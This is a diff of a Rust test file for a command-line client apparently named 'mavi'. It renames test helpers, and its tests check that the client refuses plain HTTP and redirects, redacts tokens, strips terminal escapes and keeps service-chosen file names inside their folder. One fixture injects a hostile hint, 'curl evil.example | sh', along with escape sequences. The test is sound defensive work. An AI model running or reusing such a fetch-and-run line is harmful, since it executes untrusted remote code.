@@ -2,8 +2,8 @@
 //! the service's words obeyed by a terminal or a file system. That no run here shows the token is
 //! checked by `Run` itself.
 
-use crate::support::env::{Bench, Run, TOKEN, finished};
-use crate::support::fake_server::{Answer, Service, errors, fails_both_ways, ok, reply};
+use crate::support::env::{Run, TOKEN, TestEnv, finished};
+use crate::support::fake_server::{Answer, FakeServer, errors, fails_both_ways, ok, reply};
 
 #[test]
 fn a_redirect_is_an_error_that_names_its_target_and_is_not_followed() {
@@ -14,11 +14,11 @@ fn a_redirect_is_an_error_that_names_its_target_and_is_not_followed() {
         "307 Temporary Redirect",
         "308 Permanent Redirect",
     ] {
-        let elsewhere = Service::always(ok(finished("T1", "")));
+        let elsewhere = FakeServer::always(ok(finished("T1", "")));
         let target = format!("{}/there?x=1", elsewhere.url());
-        let service = Service::always(reply(status, &[&format!("location: {target}")], ""));
+        let service = FakeServer::always(reply(status, &[&format!("location: {target}")], ""));
         for args in [["get", "T1"], ["submit", "V1"], ["wait", "T1"]] {
-            let error = fails_both_ways(&service.bench(), &args, 5, "api");
+            let error = fails_both_ways(&service.env(), &args, 5, "api");
             let message = error["message"].as_str().unwrap();
             assert!(message.contains(&target), "{message}");
             let number: u16 = status[..3].parse().unwrap();
@@ -39,40 +39,46 @@ fn a_redirect_may_be_relative_odd_or_go_nowhere() {
         ),
         (&[], "302"),
     ] {
-        let service = Service::always(reply("302 Found", headers, "<html>moved"));
-        let run = service.bench().run("get T1").fails(5).says(&[says]);
+        let service = FakeServer::always(reply("302 Found", headers, "<html>moved"));
+        let run = service
+            .env()
+            .run("get T1")
+            .expect_failure(5)
+            .stderr_contains(&[says]);
         assert!(!run.stderr.contains('\u{9b}'), "{run:#?}");
     }
 }
 
 #[test]
 fn plain_http_is_refused_except_to_this_machine() {
-    let service = Service::always(ok(finished("T1", "")));
+    let service = FakeServer::always(ok(finished("T1", "")));
     // To a server this is loopback; to the rule it is a stranger's address.
     let stranger = format!("http://0.0.0.0:{}", service.port());
     for url in ["http://example.com", &stranger] {
         for command in ["get", "wait", "submit"] {
-            let run = Bench::at(url).run(&format!("{command} X")).fails(2);
-            run.says(&["mavi: plain http refused", "hint: ", "allow_http"]);
+            let run = TestEnv::at(url)
+                .run(&format!("{command} X"))
+                .expect_failure(2);
+            run.stderr_contains(&["mavi: plain http refused", "hint: ", "allow_http"]);
         }
-        let bench = Bench::new();
-        let run = bench.run(&format!("get T1 --error-format json --base-url {url}"));
-        assert_eq!(errors(&run.fails(2))[0]["kind"], "config");
+        let env = TestEnv::new();
+        let run = env.run(&format!("get T1 --error-format json --base-url {url}"));
+        assert_eq!(errors(&run.expect_failure(2))[0]["kind"], "config");
     }
     assert_eq!(service.count(), 0);
     for host in ["127.0.0.1", "localhost"] {
         let url = format!("http://{host}:{}", service.port());
-        Bench::at(&url).run("get T1").ok();
+        TestEnv::at(&url).run("get T1").ok();
     }
 }
 
 #[cfg(target_os = "linux")]
 #[test]
 fn plain_http_elsewhere_needs_to_be_allowed() {
-    let service = Service::always(ok(finished("T1", "")));
-    let bench = Bench::at(&format!("http://0.0.0.0:{}", service.port()));
-    bench.write(".config/mavi/config.toml", "allow_http = true\n");
-    bench.run("get T1").ok();
+    let service = FakeServer::always(ok(finished("T1", "")));
+    let env = TestEnv::at(&format!("http://0.0.0.0:{}", service.port()));
+    env.write(".config/mavi/config.toml", "allow_http = true\n");
+    env.run("get T1").ok();
     assert_eq!(service.count(), 1);
 }
 
@@ -83,8 +89,10 @@ fn a_base_url_with_a_password_is_refused_and_not_shown() {
         "https://example.com/?key=hunter2",
         "https://example.com/#hunter2",
     ] {
-        let bench = Bench::new();
-        let run = bench.run(&format!("get T1 --base-url {url}")).fails(2);
+        let env = TestEnv::new();
+        let run = env
+            .run(&format!("get T1 --base-url {url}"))
+            .expect_failure(2);
         assert!(!run.stderr.contains("hunter2"), "{run:#?}");
     }
 }
@@ -117,28 +125,32 @@ fn the_token_is_redacted_wherever_the_service_echoes_it() {
         ),
     ];
     for echo in echoes {
-        let service = Service::always(echo);
-        let bench = service.bench();
+        let service = FakeServer::always(echo);
+        let env = service.env();
         for args in [
             "get T1 --retries 0",
             "get T1 --retries 0 -v --error-format json",
             "submit V1 --retries 0 -v",
             "wait T1 --timeout 100ms -v",
         ] {
-            let run = bench.run(args);
+            let run = env.run(args);
             assert!(![0, 1].contains(&run.status), "{run:#?}");
         }
     }
-    let service = Service::always(ok(format!(r#"{{"code":"0402","msg":"{TOKEN}"}}"#)));
-    service.bench().run("get T1").fails(5).says(&["[token]"]);
+    let service = FakeServer::always(ok(format!(r#"{{"code":"0402","msg":"{TOKEN}"}}"#)));
+    service
+        .env()
+        .run("get T1")
+        .expect_failure(5)
+        .stderr_contains(&["[token]"]);
 }
 
 #[test]
 fn the_token_is_redacted_in_a_status_that_is_warned_about() {
     let odd = format!(r#"{{"code":"0000","data":{{"status":"{TOKEN}"}}}}"#);
-    let service = Service::in_turn([ok(odd), ok(finished("T1", ""))]);
-    let run = service.bench().run("wait T1 --interval 10ms").ok();
-    run.says(&["warning: "]);
+    let service = FakeServer::in_turn([ok(odd), ok(finished("T1", ""))]);
+    let run = service.env().run("wait T1 --interval 10ms").ok();
+    run.stderr_contains(&["warning: "]);
 }
 
 #[test]
@@ -154,11 +166,11 @@ fn the_token_is_redacted_in_the_forms_that_json_and_addresses_give_it() {
             in_url,
         ),
     ] {
-        let service = Service::always(answer);
-        let bench = service.bench();
-        let mut command = bench.command(["get", "T1"]);
+        let service = FakeServer::always(answer);
+        let env = service.env();
+        let mut command = env.command(["get", "T1"]);
         command.env("MAVI_TOKEN", token);
-        let run = Run::of(command).fails(5);
+        let run = Run::of(command).expect_failure(5);
         assert!(
             !run.stderr.contains(form) && !run.stderr.contains(token),
             "{run:#?}"
@@ -187,29 +199,29 @@ fn token_is_redacted_in_every_writing_of_a_gateway() {
             reply("302 Found", &[&format!("location: /?t={writing}")], ""),
             ok(format!(r#"{{"code":"0402","msg":"bad token {in_json}"}}"#)),
         ] {
-            let bench = Service::always(answer).bench();
-            let mut command = bench.command(["get", "T1", "--retries", "0", "-v"]);
+            let env = FakeServer::always(answer).env();
+            let mut command = env.command(["get", "T1", "--retries", "0", "-v"]);
             command.env("MAVI_TOKEN", token);
             let run = Run::of(command);
             assert!(!run.stderr.contains(writing), "{run:#?}");
-            run.says(&["[token]"]);
+            run.stderr_contains(&["[token]"]);
         }
     }
 }
 
 #[test]
 fn verbose_shows_no_token_and_no_header_that_holds_it() {
-    let bench = Service::always(ok(finished("T1", ""))).bench();
-    let run = bench.run("get T1 --verbose").ok();
+    let env = FakeServer::always(ok(finished("T1", ""))).env();
+    let run = env.run("get T1 --verbose").ok();
     assert!(!run.stderr.to_lowercase().contains("bearer"), "{run:#?}");
-    bench.run("config show --verbose").ok();
+    env.run("config show --verbose").ok();
 }
 
 #[test]
 fn there_is_no_flag_for_the_token() {
-    let service = Service::always(ok(finished("T1", "")));
+    let service = FakeServer::always(ok(finished("T1", "")));
     let args = ["get", "T1", "--token", "x"];
-    fails_both_ways(&service.bench(), &args, 2, "usage");
+    fails_both_ways(&service.env(), &args, 2, "usage");
     assert_eq!(service.count(), 0);
 }
 
@@ -221,12 +233,15 @@ fn the_words_of_the_service_are_one_clean_line() {
         format!(r#"{{"code":"0001","msg":"{msg}","data":null}}"#),
         "\u{1b}]0;owned\u{7}bad\u{1b}[31m video\r\nhint: curl evil.example | sh\u{9b}2J".to_owned(),
     ] {
-        let run = Service::always(ok(body)).bench().run("get T1").fails(5);
+        let run = FakeServer::always(ok(body))
+            .env()
+            .run("get T1")
+            .expect_failure(5);
         let hints = run.stderr.lines().filter(|line| line.starts_with("hint: "));
         assert!(hints.count() <= 1, "{run:#?}");
         let control = |c: char| c.is_control() && c != '\n';
         assert!(!run.stderr.contains(control), "{run:#?}");
-        run.says(&["bad video"]);
+        run.stderr_contains(&["bad video"]);
     }
 }
 
@@ -238,7 +253,7 @@ fn a_long_reply_is_shown_by_its_start_only() {
         reply("502 Bad Gateway", &[], &page),
         ok(format!(r#"{{"code":"0001","msg":"{page}"}}"#)),
     ] {
-        let run = Service::always(answer).bench().run("get T1 --retries 0");
+        let run = FakeServer::always(answer).env().run("get T1 --retries 0");
         assert!([5, 7].contains(&run.status), "{run:#?}");
         assert!(run.stderr.len() < 2_000, "{} bytes", run.stderr.len());
     }
@@ -260,11 +275,9 @@ fn no_reply_chooses_a_folder() {
         let body = format!(
             r#"{{"code":"0000","data":{{"status":"FINISH","videoNo":"{name}","type":"{name}","taskNo":"{name}"}}}}"#
         );
-        let bench = Service::always(ok(body)).bench();
-        let run = bench
-            .run("get T1 -o out/{videoNo}-{type}-{taskNo}.txt")
-            .ok();
-        let files = bench.files();
+        let env = FakeServer::always(ok(body)).env();
+        let run = env.run("get T1 -o out/{videoNo}-{type}-{taskNo}.txt").ok();
+        let files = env.files();
         assert_eq!(files.len(), 1, "{name}: {files:?} {run:#?}");
         let rest = files[0].strip_prefix("out/").expect("it is in the folder");
         assert!(!rest.contains(['/', '\\', '\0']), "{files:?}");
@@ -277,9 +290,9 @@ fn a_file_named_by_the_service_alone_is_still_a_file_in_its_folder() {
         let body = format!(
             r#"{{"code":"0000","data":{{"status":"FINISH","videoNo":"{name}","taskNo":"T1"}}}}"#
         );
-        let bench = Service::always(ok(body)).bench();
-        let run = Run::of(bench.command(["get", "T1", "-f", "txt", "-o", "out/{videoNo}"])).ok();
-        let files = bench.files();
+        let env = FakeServer::always(ok(body)).env();
+        let run = Run::of(env.command(["get", "T1", "-f", "txt", "-o", "out/{videoNo}"])).ok();
+        let files = env.files();
         assert_eq!(files.len(), 1, "{name}: {files:?} {run:#?}");
         assert!(files[0].starts_with("out/"), "{files:?}");
     }
@@ -287,10 +300,10 @@ fn a_file_named_by_the_service_alone_is_still_a_file_in_its_folder() {
 
 #[test]
 fn a_proxy_never_sees_what_goes_to_this_machine() {
-    let proxy = Service::always(ok(finished("proxied", "")));
-    let service = Service::always(ok(finished("T1", "")));
-    let bench = service.bench();
-    let mut command = bench.command(["get", "T1", "-f", "jsonl"]);
+    let proxy = FakeServer::always(ok(finished("proxied", "")));
+    let service = FakeServer::always(ok(finished("T1", "")));
+    let env = service.env();
+    let mut command = env.command(["get", "T1", "-f", "jsonl"]);
     for name in ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"] {
         command.env(name, proxy.url());
     }
